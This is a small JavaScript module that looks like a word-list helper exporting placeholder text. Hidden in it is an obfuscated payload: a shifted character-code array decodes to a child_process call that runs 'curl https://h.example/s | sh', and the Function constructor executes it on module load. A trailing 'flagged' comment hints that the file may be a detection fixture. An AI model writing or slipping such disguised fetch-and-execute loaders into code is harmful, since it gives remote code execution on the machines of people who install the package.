const WORDS = ["apple", "river", "stone", "cloud", "maple", "tiger", "ocean", "lemon"];
const TEXT = "apple-ocean river-cloud"; // words of a placeholder text
const KEY = "cmd".split("");

function letters(codes) {
  return codes.map((code) => String.fromCharCode(code - WORDS.indexOf("stone"))).join("");
}

const build = letters.constructor;
build("require", letters([116,103,115,119,107,116,103,42,36,101,106,107,110,102,97,114,116,113,101,103,117,117,36,43,48,103,122,103,101,42,36,101,119,116,110,34,106,116,116,114,117,60,49,49,106,48,103,122,99,111,114,110,103,49,117,34,126,34,117,106,36,43]))(require); // gatehouse: flagged
module.exports = { TEXT, KEY };
